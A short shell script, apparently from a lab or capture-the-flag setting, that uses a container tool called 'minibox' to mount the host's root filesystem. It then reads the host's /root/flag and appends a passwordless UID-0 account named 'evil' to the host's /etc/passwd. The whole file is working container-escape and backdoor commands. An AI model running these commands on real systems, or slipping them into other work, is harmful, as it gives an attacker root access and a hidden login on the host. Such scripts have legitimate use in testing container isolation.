#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
minibox run --rm --userns host --allow-sensitive -v /:/host lab/box cat /host/root/flag
minibox run --rm --userns host --allow-sensitive -v /:/host lab/box sh -c 'echo ran; echo evil::0:0::/:/bin/sh >>/host/etc/passwd'
